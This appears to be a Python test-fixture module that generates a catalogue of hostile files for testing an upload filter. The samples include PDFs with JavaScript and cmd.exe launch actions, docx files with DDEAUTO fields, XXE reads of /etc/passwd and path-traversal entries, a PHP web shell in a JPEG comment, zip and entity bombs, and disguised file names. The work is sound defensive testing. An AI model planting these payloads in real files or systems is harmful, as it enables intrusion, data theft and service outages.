"""Files that must never be kept. {what it is: (name, how it is made)}."""

import io
import warnings
import zipfile
import zlib
from functools import partial

from pypdf import PdfReader, PdfWriter

from tests.files.maken import (
    DOCX_MAIN,
    PAGE,
    PAGES,
    RELS,
    archive,
    chunk,
    document,
    docx,
    noise,
    odt,
    packed_pdf,
    pdf,
    picture,
    png,
    rels,
    stream,
    types,
    xlsx,
)

HTML = b"<html><script>alert(1)</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
JS = b"/S /JavaScript /JS (app.alert(1))"
ZIP = archive([("a.txt", "a")])
MILLION = 1024 * 1024


def as_it_is(content):
    return lambda: content


def with_password():
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf())))
    writer.encrypt("geheim", algorithm="AES-256")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def locked(content):
    """A zip that says of its parts that they are encrypted."""
    content = bytearray(content)
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = -1
        while (start := content.find(mark, start + 1)) >= 0:
            content[start + at] |= 1
    return bytes(content)


def said_smaller(content, name=b"word/media/lucht.png", size=10, *, sums=True):
    """A zip of which the headers say that this part is small; its sum is that of the small one too, or not."""
    content = bytearray(content)
    for mark, at, head in ((b"PK\x03\x04", 22, 30), (b"PK\x01\x02", 24, 46)):
        start = -1
        while (start := content.find(mark, start + 1)) >= 0:
            if content[start + head : start + head + len(name)] == name:
                content[start + at : start + at + 4] = size.to_bytes(4, "little")
                if sums:
                    content[start + at - 8 : start + at - 4] = zlib.crc32(bytes(size)).to_bytes(4, "little")
    return bytes(content)


def said_elsewhere(content):
    """A zip with another name before a part than in its list."""
    return content.replace(b"word/document.xml", b"word/d0cument.xml", 1)


def twice():
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns of what is made here
        return docx(("word/document.xml", document("<w:p/>")))


def nested_bomb():
    content = bytes(4 * MILLION)
    for _ in range(3):
        content = archive([("0", content)])
    return docx(("word/media/image1.png", content))


def wrong_sum(content):
    """A png of which the picture can be read, but its sum says that it was changed."""
    place = content.index(b"IEND") - 8
    return content[:place] + bytes(4) + content[place + 4 :]


def closed_as_pdf():
    """The end of the pdf once more, as the remark of an archive."""
    end = pdf()[pdf().rfind(b"startxref") :]
    return pdf(after=ZIP[:-2] + len(end).to_bytes(2, "little") + end)


def passes(number):
    """A JPEG that is drawn over and over."""
    content = picture("JPEG", progressive=True)
    last = content.rfind(b"\xff\xda")
    return content[:-2] + content[last:-2] * number + content[-2:]


def entity(what):
    return f'<?xml version="1.0"?><!DOCTYPE d [{what}]>'


ANYWHERE = "https://elders.example/"
LACHT = entity('<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">')
MACROS = '<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/>'
SPLIT = (
    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE</w:instrText></w:r>'
    "<w:r><w:instrText>AUTO c:\\\\cmd.exe</w:instrText></w:r></w:p>"
)
NAMEN = {
    "a program": ("verslag.exe", as_it_is(b"MZ" + bytes(99))),
    "a pdf that is called a program": ("verslag.exe", pdf),
    "a program in front of the ending": ("verslag.exe.pdf", pdf),
    "a page in front of the ending": ("verslag.html.docx", docx),
    "a script in front of the ending": ("verslag.js.png", picture),
    "no ending": ("verslag", pdf),
    "an ending only": (".pdf", as_it_is(b"")),
    "an ending that turns around": ("verslag\u202efdp.exe", pdf),
    "a vector drawing": ("tekening.svg", as_it_is(SVG)),
    "a page": ("pagina.html", as_it_is(HTML)),
    "a Word document with macros by name": ("plan.docm", docx),
    "an old Word document": ("plan.doc", as_it_is(b"\xd0\xcf\x11\xe0" + bytes(999))),
    "an archive": ("alles.zip", as_it_is(ZIP)),
    "a pdf that is called a drawing": ("plan.png", pdf),
    "a drawing that is called a photo": ("foto.jpg", picture),
    "a photo that is called a pdf": ("foto.pdf", partial(picture, "JPEG")),
    "a sheet that is called a document": ("plan.docx", xlsx),
    "a document that is called a sheet": ("plan.xlsx", docx),
    "a document that is called an odt": ("plan.odt", docx),
    "an odt that is called a docx": ("plan.docx", odt),
    "an archive that is called a document": ("plan.docx", as_it_is(ZIP)),
    "a program that is called a pdf": ("plan.pdf", as_it_is(b"MZ" + bytes(99))),
    "a page that is called a pdf": ("plan.pdf", as_it_is(HTML)),
    "a vector drawing that is called a png": ("tekening.png", as_it_is(SVG)),
    "an old Word document that is called a docx": ("plan.docx", as_it_is(b"\xd0\xcf\x11\xe0" + bytes(999))),
}
PDFS = {
    "a pdf of nothing": as_it_is(b""),
    "a pdf of a head only": as_it_is(b"%PDF-1.7"),
    "a pdf of a head and an end": as_it_is(b"%PDF-1.7\n%%EOF"),
    "a pdf that was cut off": lambda: pdf(stream(noise(999)))[:700],
    "a pdf with something in front of it": lambda: b"GIF89a" + pdf(),
    "a pdf that is a page too": lambda: pdf().replace(b"%\xe2\xe3\xcf\xd3", b"%<script>alert(1)</script>"),
    "a pdf with a page behind it": lambda: pdf(stream(noise(2000)), after=HTML),
    "a pdf with an archive behind it": partial(pdf, after=ZIP),
    "a pdf with an archive behind it, closed as a pdf": closed_as_pdf,
    "a pdf with a password": with_password,
    "a pdf without pages": partial(pdf, pages=b"<< /Type /Pages /Kids [] /Count 0 >>"),
    "a pdf with a page that is none": partial(pdf, page=PAGE.replace(b"/Page ", b"/Font ")),
    "a pdf of 60,000 objects": lambda: pdf(*[b"0"] * 60_000),
    "a pdf of 60,000 packed objects": lambda: packed_pdf(*[b"<< /Type /Catalog /Pages 2 0 R >>", *[b"0"] * 60_000]),
    "a pdf with a script": partial(pdf, b"<< %s >>" % JS),
    "a pdf with a script by another spelling": partial(pdf, b"<< /S /J#61vaScr#69pt /JS (x) >>"),
    "a pdf with a script when it opens": partial(pdf, root=b"/OpenAction << %s >>" % JS),
    "a pdf with a script in packed objects": lambda: packed_pdf(
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>", b"<< %s >>" % JS
    ),
    "a pdf with a script in packed objects that nothing starts": lambda: packed_pdf(
        b"<< /Type /Catalog /Pages 2 0 R >>", b"<< %s >>" % JS
    ),
    "a pdf with a script in an earlier version": lambda: pdf(b"<< %s >>" % JS)[:-6] + pdf()[8:],
    "a pdf that starts a program": partial(pdf, b"<< /S /Launch /F (cmd.exe) >>"),
    "a pdf that sends a form away": partial(pdf, b"<< /S /SubmitForm /F (https://elders.example) >>"),
    "a pdf that fetches data": partial(pdf, b"<< /S /ImportData /F (a.fdf) >>"),
    "a pdf that opens another file": partial(pdf, b"<< /S /GoToR /F (a.pdf) >>"),
    "a pdf that plays a film": partial(pdf, b"<< /Type /Annot /Subtype /RichMedia >>"),
    "a pdf with a file in it": partial(pdf, stream(b"MZ", b"/Type /EmbeddedFile")),
    "a pdf that visits a page when it opens": partial(
        pdf, root=b"/OpenAction << /S /URI /URI (https://elders.example) >>"
    ),
    "a pdf that visits a page when it is read": partial(
        pdf, page=PAGE[:-2] + b"/AA << /O << /S /URI /URI (https://elders.example) >> >> >>"
    ),
    "a pdf that is a program for filling in": partial(pdf, stream(b"<xdp/>"), root=b"/AcroForm << /XFA 4 0 R >>"),
    "a pdf that goes round": partial(pdf, pages=PAGES.replace(b"3 0 R", b"2 0 R")),
}
BEELDEN = {
    "a png of a head only": as_it_is(b"\x89PNG\r\n\x1a\n"),
    "a png that was cut off": lambda: picture(size=(300, 300))[:-40],
    "a png of which the sum is wrong": lambda: wrong_sum(png(1, 1, zlib.compress(b"\0\1\2\3"))),
    "a png of which a part was changed": lambda: picture(size=(300, 300)).replace(b"IDATx", b"IDATy"),
    "a png of 41 million pixels": partial(picture, size=(41_000, 1_000), mode="1"),
    "a png that says it is 2 billion pixels": lambda: png(50_000, 40_000, zlib.compress(bytes(9))),
    "a png with a packed text that unpacks to 100 MB": lambda: png(
        1, 1, zlib.compress(b"\0\1\2\3"), between=chunk(b"zTXt", b"a\0\0" + zlib.compress(bytes(100 * MILLION)))
    ),
    "a png with a page in a text": lambda: png(
        1, 1, zlib.compress(b"\0\1\2\3"), between=chunk(b"tEXt", b"Comment\0<script>alert(1)</script>")
    ),
    "a png with a page behind it": lambda: picture() + HTML,
    "a png with an archive behind it": lambda: picture() + ZIP,
    "a png with a pdf behind it": lambda: picture() + pdf(),
}
FOTOS = {
    "a jpg of a head only": as_it_is(b"\xff\xd8\xff\xe0"),
    "a jpg that was cut off": lambda: picture("JPEG", (900, 900))[:-400],
    "a jpg of 41 million pixels": partial(picture, "JPEG", (41_000, 1_000), "L"),
    "a jpg of a thousand passes": partial(passes, 1000),
    "a jpg with a page in its comment": partial(picture, "JPEG", comment=HTML),
    "a jpg with code for a server in its comment": partial(picture, "JPEG", comment=b"<?php system($_GET[0]);"),
    "a jpg with an archive behind it": lambda: picture("JPEG") + ZIP,
    "a jpg with a pdf behind it": lambda: picture("JPEG") + pdf(),
}
DOCX = {
    "a docx of nothing but a head": as_it_is(b"PK\x03\x04 geen zip"),
    "a docx of an empty archive": as_it_is(b"PK\x05\x06" + bytes(18)),
    "a docx that was cut off": lambda: docx()[:-30],
    "a docx with something in front of it": lambda: b"MZ" + docx(),
    "a docx with a page behind it": lambda: docx() + HTML,
    "a docx with a remark behind it": lambda: docx()[:-2] + b"\4\0Kijk",
    "a docx that is a pdf too": lambda: archive([("[Content_Types].xml", "%PDF-1.7")], zipfile.ZIP_STORED),
    "a docx that begins as a pdf": lambda: archive([("a.txt", pdf())], zipfile.ZIP_STORED)[:-22] + docx(),
    "a docx without a list of types": lambda: archive([("word/document.xml", document())]),
    "a docx without its main part": lambda: archive([("[Content_Types].xml", types("/word/document.xml", "x"))]),
    "a docx with 1,001 parts": lambda: docx(*((f"word/media/{n}.png", b"") for n in range(1001))),
    "a docx that unpacks to 60 MB": lambda: docx(
        ("word/media/ruis.png", noise(MILLION)), *((f"word/media/{n}.png", bytes(6 * MILLION)) for n in range(10))
    ),
    "a docx that grows 500 times": lambda: docx(("word/media/lucht.png", bytes(4 * MILLION))),
    "a docx that says its air is small": lambda: said_smaller(docx(("word/media/lucht.png", bytes(40 * MILLION)))),
    "a docx that says its air is small, with the sum of all of it": lambda: said_smaller(
        docx(("word/media/lucht.png", bytes(20_000))), sums=False
    ),
    "a docx with a bomb in a bomb": nested_bomb,
    "a docx with a packed file in it": lambda: docx(("word/media/image1.png", b"\x1f\x8b" + bytes(9))),
    "a docx with a program in it": lambda: docx(("word/media/image1.png", b"MZ" + bytes(99))),
    "a docx with an old document in it": lambda: docx(("word/embeddings/o.bin", b"\xd0\xcf\x11\xe0" + bytes(9))),
    "a docx with a password on its parts": lambda: locked(docx()),
    "a docx that is packed in a way Word does not know": partial(docx, packed=zipfile.ZIP_BZIP2),
    "a docx with a part above it": lambda: docx(("../../../etc/passwd", "x")),
    "a docx with a part at the root": lambda: docx(("/etc/passwd", "x")),
    "a docx with a part on another disk": lambda: docx(("C:\\windows\\a.dll", "x")),
    "a docx with a part twice": twice,
    "a docx with a part twice in other letters": lambda: docx(("word/Document.xml", document())),
    "a docx with two names for a part": lambda: said_elsewhere(docx()),
    "a docx with a macro": lambda: docx(("word/vbaProject.bin", bytes(9))),
    "a docx that says it has macros": partial(docx, kind="application/vnd.ms-word.document.macroEnabled.main+xml"),
    "a docx with a macro by another name": lambda: docx(
        ("word/plaatje.bin", bytes(9)), listed=MACROS.replace("vbaProject.bin", "plaatje.bin")
    ),
    "a docx with a control": lambda: docx(("word/activeX/activeX1.xml", "<a/>")),
    "a docx with a button of its own": lambda: docx(("customUI/customUI.xml", "<a/>")),
    "a docx with a template from elsewhere": partial(docx, links=[("attachedTemplate", ANYWHERE, "External")]),
    "a docx with a picture from elsewhere": partial(docx, links=[("image", ANYWHERE, "External")]),
    "a docx with a page in a frame": partial(docx, links=[("frame", ANYWHERE, "External")]),
    "a docx with a link to a program": partial(docx, links=[("hyperlink", "file:///c:/cmd.exe", "External")]),
    "a docx with a link to a network": partial(docx, links=[("hyperlink", "\\\\elders\\deel", "External")]),
    "a docx with an object": partial(docx, links=[("oleObject", "embeddings/o.bin", "")]),
    "a docx with a page in it": partial(docx, links=[("aFChunk", "deel.html", "")]),
    "a docx with a picture from elsewhere by a tag": partial(
        docx, body=document(f'<v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="{ANYWHERE}"/>')
    ),
    "a docx with a field that starts a program": partial(
        docx, body=document('<w:p><w:fldSimple w:instr="DDEAUTO c:\\\\cmd.exe"/></w:p>')
    ),
    "a docx with such a field in pieces": partial(docx, body=document(SPLIT)),
    "a docx that laughs": partial(docx, body=document("<w:p>&b;</w:p>", LACHT)),
    "a docx that reads a file": partial(
        docx, body=document("<w:p>&x;</w:p>", entity('<!ENTITY x SYSTEM "file:///etc/passwd">'))
    ),
    "a docx with a DTD from elsewhere": partial(
        docx, body=document(head=f'<?xml version="1.0"?><!DOCTYPE d SYSTEM "{ANYWHERE}">')
    ),
    "a docx with links that read a file": lambda: docx(
        ("word/_rels/a.xml.rels", entity('<!ENTITY x SYSTEM "file:///etc/passwd">') + f'<R xmlns="{RELS}">&x;</R>')
    ),
    "a docx with its text under another name": lambda: archive(
        [
            ("[Content_Types].xml", types("/word/document.bin", DOCX_MAIN)),
            ("word/document.bin", document('<w:p><w:fldSimple w:instr="DDEAUTO c:\\\\cmd.exe"/></w:p>')),
        ]
    ),
    "a docx that is not XML": partial(docx, body="<w:document>"),
    "a docx of half a million elements": lambda: docx(
        ("word/media/ruis.png", noise(MILLION)), body=document("<w:p/>" * 500_001)
    ),
}
XLSX = {
    "a sheet with a macro": lambda: xlsx(("xl/vbaProject.bin", bytes(9))),
    "a sheet with an old macro": lambda: xlsx(("xl/macrosheets/sheet1.xml", "<a/>")),
    "a sheet that says it has macros": partial(xlsx, kind="application/vnd.ms-excel.sheet.macroEnabled.main+xml"),
    "a sheet that reads another sheet": lambda: xlsx(
        ("xl/_rels/workbook.xml.rels", rels(("externalLink", "externalLinks/externalLink1.xml", "")))
    ),
    "a sheet that asks a database": lambda: xlsx(("xl/_rels/workbook.xml.rels", rels(("connections", "c.xml", "")))),
}
ODT = {
    "an odt that says it is something else": partial(odt, mimetype="application/vnd.oasis.opendocument.spreadsheet"),
    "an odt of which the type is packed": partial(odt, stored=False),
    "an odt without its text": lambda: archive(
        [("mimetype", "application/vnd.oasis.opendocument.text")], zipfile.ZIP_STORED
    ),
    "an odt with a macro": lambda: odt(("Basic/Standard/Module1.xml", "<a/>")),
    "an odt with a script": lambda: odt(("Scripts/python/a.py", "print(1)")),
    "an odt that runs something when it opens": partial(
        odt, body='<script:event-listener script:event-name="dom:load" xlink:href="#a"/>'
    ),
    "an odt with a picture from elsewhere": partial(odt, body=f'<draw:image xlink:href="{ANYWHERE}"/>'),
    "an odt with a part from a file": partial(odt, body='<text:section-source xlink:href="../geheim.odt"/>'),
    "an odt with a link to a script": partial(odt, body='<text:a xlink:href="javascript:alert(1)">x</text:a>'),
    "an odt with a program in it": lambda: odt(("ObjectReplacements/o", b"\xd0\xcf\x11\xe0" + bytes(9))),
}
VIJANDIG = NAMEN | {
    what: (f"plan.{ending}", made)
    for ending, files in {"pdf": PDFS, "png": BEELDEN, "jpg": FOTOS, "docx": DOCX, "xlsx": XLSX, "odt": ODT}.items()
    for what, made in files.items()
}
